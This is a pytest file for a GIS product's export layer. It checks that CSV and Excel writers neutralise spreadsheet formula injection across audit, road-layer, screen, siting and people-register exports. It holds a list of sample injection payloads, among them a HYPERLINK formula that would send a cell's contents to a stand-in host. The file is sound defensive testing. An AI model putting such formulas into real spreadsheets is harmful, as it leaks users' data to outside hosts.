"""Exports are inert (issue 19, OWASP CSV injection): every text cell that begins with = + - @
tab or CR is neutralised in every CSV and Excel file the product writes."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
from sqlalchemy import text

from gis.db import owner_engine, transaction
from gis.inert import inert, inert_frame

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://x/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cells_xlsx(data: bytes) -> list:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _csv(data: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


def _live(values) -> list:
    return [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_inert_rule() -> None:
    assert [inert(v) for v in HOSTILE] == ["'" + v.replace("\r", "\n") for v in HOSTILE]
    assert inert("社区") == "社区" and inert(-5) == -5 and inert(None) is None
    frame = inert_frame(pd.DataFrame({"=bad": HOSTILE, "n": range(len(HOSTILE))}, index=[f"={i}" for i in range(6)]))
    assert not _live(frame["'=bad"]) and not _live(frame.index) and list(frame["n"]) == list(range(6))


def test_every_csv_and_excel_writer_goes_through_inert_frame() -> None:
    """No writer of the product writes a frame without the rule (a new one fails here)."""
    unguarded = []
    for folder in ("ui", "cli", "analysis", "layers", "grid", "gis"):
        for path in (ROOT / folder).rglob("*.py"):
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if re.search(r"\.to_(csv|excel)\(", line) and "inert_frame(" not in line and "header=False" not in line:
                    unguarded.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert not unguarded, "CSV/Excel writers without gis.inert.inert_frame:\n" + "\n".join(unguarded)


def test_audit_export_is_inert(demo, tmp_path) -> None:
    from layers.audit import export_audit

    with owner_engine().begin() as c:
        for v in HOSTILE:
            c.execute(text("INSERT INTO audit_log (actor, action, table_name) VALUES (:v, :v, 'inert_test')"), {"v": v})
    try:
        with transaction() as conn:
            text_ = export_audit(conn, table="inert_test").decode("utf-8-sig")
            xlsx = export_audit(conn, tmp_path / "a.xlsx", table="inert_test")
        rows = _csv(text_)
        assert len(rows) == len(HOSTILE) and not _live([r["actor"] for r in rows]) and not _live([r["action"] for r in rows])
        cells = _cells_xlsx(xlsx)
        assert "'" + HOSTILE[0] in cells and not _live(cells)
    finally:
        with owner_engine().begin() as c:
            c.execute(text("DELETE FROM audit_log WHERE table_name = 'inert_test'"))


def test_layer_csv_export_is_inert(demo, tmp_path) -> None:
    from layers.export import export_layer

    with owner_engine().begin() as c:
        rid = c.execute(text("SELECT id FROM roads ORDER BY id LIMIT 1")).scalar_one()
        old = c.execute(text("SELECT name FROM roads WHERE id = :i"), {"i": rid}).scalar_one()
        c.execute(text("UPDATE roads SET name = :v WHERE id = :i"), {"v": HOSTILE[0], "i": rid})
    try:
        with transaction() as conn:
            export_layer(conn, "roads", tmp_path / "roads.csv")
        names = [r["name"] for r in _csv((tmp_path / "roads.csv").read_text(encoding="utf-8-sig"))]
        assert "'" + HOSTILE[0] in names and not _live(names)
    finally:
        with owner_engine().begin() as c:
            c.execute(text("UPDATE roads SET name = :v WHERE id = :i"), {"v": old, "i": rid})


def test_screen_exports_are_inert() -> None:
    from ui.screens import audit as audit_screen
    from ui.screens import coverage

    frame = pd.DataFrame({"名称": HOSTILE, "值": range(len(HOSTILE))})
    rows = _csv(coverage.csv_bytes(frame).decode("utf-8-sig"))
    assert len(rows) == len(HOSTILE) and not _live([r["名称"] for r in rows])
    assert not _live(_cells_xlsx(coverage.excel_bytes({"t": frame})))
    assert not _live(_cells_xlsx(audit_screen.excel_bytes(frame)))


def test_siting_export_is_inert(demo, tmp_path, monkeypatch) -> None:
    from analysis import siting_scenarios as ss

    monkeypatch.setattr(ss, "compare", lambda conn, ids: pd.DataFrame({"x": HOSTILE}, index=HOSTILE))
    monkeypatch.setattr(ss, "sites", lambda conn, sid: pd.DataFrame({"name": HOSTILE, "geom": [None] * len(HOSTILE)}))
    monkeypatch.setattr(ss, "worst_grids", lambda conn, ids: pd.DataFrame({"grid": HOSTILE}))
    with transaction() as conn:
        ss.export(conn, [1], tmp_path / "s.xlsx")
        ss.export(conn, [1], tmp_path / "s.csv")
    assert not _live(_cells_xlsx((tmp_path / "s.xlsx").read_bytes()))
    rows = _csv((tmp_path / "s.csv").read_text(encoding="utf-8-sig"))
    assert len(rows) == len(HOSTILE) and not _live([v for r in rows for v in r.values()])


def test_people_export_is_inert_and_watermarked() -> None:
    """The register export (issue 17): a hostile name or address stays text; the watermark stays."""
    from layers.people import _export_frame, watermarked_excel

    frame = pd.DataFrame({"id": range(len(HOSTILE)), "community_code": ["420106001001"] * 6, "grid_code": HOSTILE,
                          "address": HOSTILE, "household_no": HOSTILE, "name": HOSTILE, "sex": ["M"] * 6,
                          "birth_date": ["1950-01-01"] * 6, "id_masked": ["420106********1234"] * 6,
                          "phone_masked": ["138****0000"] * 6, "groups": [["elderly_alone"]] * 6, "risk_grade": [0] * 6,
                          "next_visit": ["2026-12-07"] * 6})
    cells = _cells_xlsx(watermarked_excel({"人员登记 register": _export_frame(frame)}, "=atk_user"))
    assert "'" + HOSTILE[0] in cells and not _live(cells)
    assert any(isinstance(v, str) and "atk_user" in v and "导出于" in v for v in cells)
